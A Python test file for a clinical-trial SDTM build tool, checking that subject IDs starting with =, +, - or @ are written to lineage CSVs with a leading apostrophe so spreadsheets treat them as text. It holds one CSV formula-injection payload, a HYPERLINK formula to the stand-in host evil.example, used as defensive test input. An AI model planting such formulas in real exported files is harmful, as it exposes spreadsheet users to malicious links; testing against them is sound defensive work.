"""Lineage CSVs never carry a spreadsheet formula (issue 8, hostile input).

A subject ID typed as ``=HYPERLINK(...)`` reaches ``lineage/<domain>.csv`` as text with a
leading ``'`` (as the validation workbook writes it), so a spreadsheet shows it and runs
nothing. Expected cells are written out by hand and read back with the csv module.
"""

from __future__ import annotations

import csv
import datetime as dt

import pandas as pd

from cdisc.standards import Standards
from sdtm.sdtmbuild import _write_domain

EVIL = '=HYPERLINK("http://evil.example/?q=1","click")'


def test_a_formula_subject_id_is_written_as_text_in_the_sdtm_lineage(tmp_path) -> None:
    data = pd.DataFrame(
        {
            "_file": ["dm.csv", "@dm.csv", "dm.csv"],
            "_form": "dm",
            "_record": ["1", "2", "3"],
            "_subject": [EVIL, "-01", "01-003"],
            "_site": "01",
            "_event": "SCR",
            "_repeat": None,
            "STUDYID": "S",
            "DOMAIN": "DM",
            "USUBJID": [EVIL, "+S-2", "S-01-003"],
            "SUBJID": [EVIL, "-01", "01-003"],
            "SITEID": "01",
            "SEX": ["M", "F", "F"],
        }
    )
    (tmp_path / "xpt").mkdir()
    (tmp_path / "lineage").mkdir()
    written = _write_domain(
        "DM",
        data,
        Standards.load(),
        tmp_path / "xpt",
        tmp_path / "lineage",
        dt.datetime(2025, 1, 1),
    )
    assert written.path is not None
    with (tmp_path / "lineage" / "dm.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["USUBJID", "SEQ", "file", "form", "subject", "record"],
        ["'" + EVIL, "", "dm.csv", "dm", "'" + EVIL, "1"],
        ["'+S-2", "", "'@dm.csv", "dm", "'-01", "2"],
        ["S-01-003", "", "dm.csv", "dm", "01-003", "3"],
    ]
